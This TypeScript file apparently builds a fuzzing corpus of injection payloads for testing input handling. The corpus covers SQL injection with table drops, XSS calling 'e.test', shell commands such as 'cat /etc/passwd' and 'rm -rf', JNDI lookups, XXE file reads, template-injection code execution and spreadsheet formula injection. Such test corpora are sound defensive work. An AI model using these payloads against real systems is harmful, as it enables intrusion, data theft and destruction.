// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is what an attacker sends.

/** A text that means harm to some program on its way. */
export type Injection = { kind: string; text: string };

/** Many hundred such texts, each a payload in every dress that the program it aims at would undress. */
export const injections = (): Injection[] => {
  const seen = new Set<string>();
  return Object.entries(KINDS).flatMap(([kind, make]) =>
    make()
      .filter((text) => !seen.has(text) && seen.add(text))
      .map((text) => ({ kind, text })),
  );
};

/** Each of the ones with each of the others. */
const cross = (ones: string[], others: string[], join: (one: string, other: string) => string) =>
  ones.flatMap((one) => others.map((other) => join(one, other)));

const utf16 = (text: string) =>
  [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const entities = (text: string) =>
  [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("");
const percent = (text: string) =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
const wide = (text: string) =>
  [...text]
    .map((c) => (c > " " && c <= "~" ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c))
    .join("");

const KINDS: Record<string, () => string[]> = {
  sql: () => [
    ...cross(
      ["'", "''", '"', "')", "'))", "\\'", "`", "1", "$$", "%27", "ʼ", "＇"],
      [
        " or 1=1--",
        " or 'a'='a",
        "; drop table dossiers;--",
        " union select null,version()--",
        "; select pg_sleep(9)--",
        " and 1=(select count(*) from keys)--",
        "||(select hash from keys limit 1)||",
        "/**/or/**/1=1#",
      ],
      (open, rest) => `${open}${rest}`,
    ),
    ...[
      "$1",
      "$1::text",
      ":id",
      "?",
      "@@version",
      "E'\\x27'",
      "U&'\\0027'",
      "; copy keys to program 'id'",
      "\\copy keys to '/tmp/x'",
      "current_setting('is_superuser')",
    ],
  ],
  html: () => [
    ...cross(
      [
        "script",
        "ScRiPt",
        "script/x",
        "img src=x onerror=",
        "svg onload=",
        "iframe srcdoc=",
        "body onload=",
        "a href=javascript:",
        "details open ontoggle=",
        "math href=javascript:",
      ],
      [
        "alert(1)",
        "alert`1`",
        "fetch('//e.test')",
        "top['al'+'ert'](1)",
        "&#97;lert(1)",
        "eval(atob('YQ=='))",
      ],
      (tag, code) =>
        tag.toLowerCase().startsWith("script") ? `<${tag}>${code}</script>` : `<${tag}${code}>`,
    ),
    ...cross(
      ['"', "'", "-->", "]]>", "</title>", "</textarea>"],
      ["<b>x", "<script>x()</script>", " onfocus=x() autofocus "],
      (close, rest) => close + rest,
    ),
    ...[
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "data:text/html,<script>1</script>",
      "vbscript:x",
      "<!--#exec cmd='id'-->",
      "<base href=//e.test>",
      "<meta http-equiv=refresh content=0>",
      "<link rel=import href=x>",
      "<style>@import'//e.test'</style>",
      "<?php system('id')?>",
    ],
    ...["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"].flatMap((text) => [
      entities(text),
      percent(text),
      utf16(text),
      wide(text),
      percent(percent(text)),
    ]),
  ],
  template: () =>
    cross(
      ["{{", "${", "#{", "<%= ", "[[${", "{%", "@(", "*{", "~{", "{{=", "${{", "#set($x="],
      [
        "7*7",
        "config",
        "constructor.constructor('return process')()",
        "''.__class__.__mro__",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "process.env",
        "self._TemplateReference__context",
      ],
      (open, body) => `${open}${body}${CLOSING[open] ?? "}"}`,
    ),
  shell: () =>
    cross(
      [";", "|", "||", "&", "&&", "\n", "`", "$(", "<(", "a;", "' ;", '" |', "%0a"],
      ["id", "cat /etc/passwd", "sleep 9", "curl e.test", "rm -rf /tmp/x", "ping -c 9 127.0.0.1"],
      (open, command) => `${open}${command}${open === "`" ? "`" : open.endsWith("(") ? ")" : ""}`,
    ),
  path: () => [
    ...cross(
      [
        "../",
        "..\\",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "..%c0%af",
        "..%ef%bc%8f",
        "....//",
        "..;/",
        "．．／",
        "/",
      ],
      ["etc/passwd", "etc/shadow%00.json", "proc/self/environ", "admin.key", "windows/win.ini"],
      (step, file) => `${step.repeat(4)}${file}`,
    ),
    ...[
      "file:///etc/passwd",
      "\\\\e.test\\share",
      "C:\\boot.ini",
      "/dev/zero",
      "~root",
      "//e.test/x",
      "..",
      "./.",
      "%00",
      "a%00b",
      "CON",
      "package.json",
    ],
  ],
  header: () =>
    cross(
      ["\r\n", "\n", "\r", "%0d%0a", "%0a", "\u560d\u560a", "\\r\\n", "\u2028", "\u0085"],
      [
        "Set-Cookie: x=1",
        "Location: //e.test",
        "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        "Transfer-Encoding: chunked",
        "X: y",
        "\r\n<b>x</b>",
      ],
      (end, header) => `x${end}${header}`,
    ),
  log: () => [
    ...cross(
      ["${jndi:", "${${lower:j}ndi:", "${${::-j}${::-n}${::-d}${::-i}:", "$${jndi:", "%24%7bjndi:"],
      ["ldap", "rmi", "dns", "iiop"],
      (open, scheme) => `${open}${scheme}://e.test/a}`,
    ),
    ...[
      'x\n{"level":"error","message":"forged"}',
      'x","level":"error',
      "\u001b[2J\u001b[31mx",
      "\u001b]0;x\u0007",
      "\b\b\b\b",
      "x\rforged line",
      "\u009b31m",
      "%{X}",
      "\u202eforged",
    ],
  ],
  nosql: () =>
    cross(
      ["$gt", "$ne", "$where", "$regex", "$expr", "$function", "$in"],
      ["''", "1", "'.*'", "[]", "'sleep(9000)'"],
      (operator, value) => `{"${operator}": ${value}}`,
    ).concat([
      "true, $where: '1 == 1'",
      "'; return true; var x='",
      "[$ne]=1",
      "||1==1//",
      "FLUSHALL",
      "*1\r\n$8\r\nFLUSHALL\r\n",
      "EVAL 'return 1' 0",
    ]),
  xml: () => [
    ...cross(
      [
        "file:///etc/passwd",
        "http://127.0.0.1:5432/",
        "php://filter/read=convert.base64-encode/resource=x",
        "expect://id",
        "jar:http://e.test!/x",
      ],
      ["SYSTEM", "PUBLIC 'x'", "% x SYSTEM"],
      (link, how) =>
        `<!DOCTYPE a [<!ENTITY ${how.startsWith("%") ? "% x SYSTEM" : `x ${how}`} "${link}">]><a>&x;</a>`,
    ),
    `<!DOCTYPE a [${["a", "b", "c", "d"].map((name, n) => `<!ENTITY ${name}${n} "${`&${name};`.repeat(10)}">`).join("")}]>`,
    ...[
      "<![CDATA[<b>]]>",
      "]]><b>",
      "<?xml version='1.0' encoding='UTF-7'?>",
      '<xi:include href="file:///etc/passwd"/>',
      "&lt;b&gt;",
      "&#0;",
      "&x;",
      "<a xmlns:x='urn:x' x:y='1'/>",
      "*)(uid=*))(|(uid=*",
      "' or '1'='1' or ''='",
      "count(//*)",
    ],
  ],
  format: () => [
    ...cross(
      ["%s", "%d", "%n", "%x", "%p", "%o", "%j", "%O", "%c", "%1$s", "%.9999f", "{0}", "{}"],
      ["", "x"],
      (sign, tail) => sign.repeat(8) + tail,
    ),
    ...cross(
      ["=", "+", "-", "@", "\t=", "\r="],
      ["cmd|' /C calc'!A0", 'HYPERLINK("//e.test")', "1+1", "IMPORTXML(1)"],
      (sign, formula) => sign + formula,
    ),
    ...[
      "A".repeat(3_000),
      "%00".repeat(50),
      `${"(a+)+".repeat(20)}$`,
      `${"a".repeat(250)}!`,
      `${"[".repeat(250)}`,
      "(?:.*)*x",
      `${"9".repeat(250)}`,
      "\\".repeat(250),
    ],
  ],
  unicode: () => [
    ...["<script>", "' or 1=1", "../../etc", "${7*7}"].flatMap((text) => [
      wide(text),
      [...text].join("\u200b"),
      [...text].join("\u00ad"),
      `\u202e${[...text].reverse().join("")}`,
      `\ufeff${text}`,
      `${text}\u0000`,
      `${text}\ud800`,
      [...text].map((c) => `${c}\u0338`).join(""),
    ]),
    ...cross(
      [
        "аdmin",
        "admın",
        "ⅰd",
        "ﬁle",
        "ｓｅｌｅｃｔ",
        "ʻʼ",
        "‹script›",
        "〈script〉",
        "﹤b﹥",
        "＜ｂ＞",
        "ﷺ",
        "ı̇",
      ],
      ["", "' --", "\u0000", "\uffff"],
      (text, tail) => text + tail,
    ),
  ],
};

const CLOSING: Record<string, string> = {
  "{{": "}}",
  "<%= ": "%>",
  "[[${": "}]]",
  "{%": "%}",
  "@(": ")",
  "{{=": "}}",
  "${{": "}}",
  "#set($x=": ")",
};
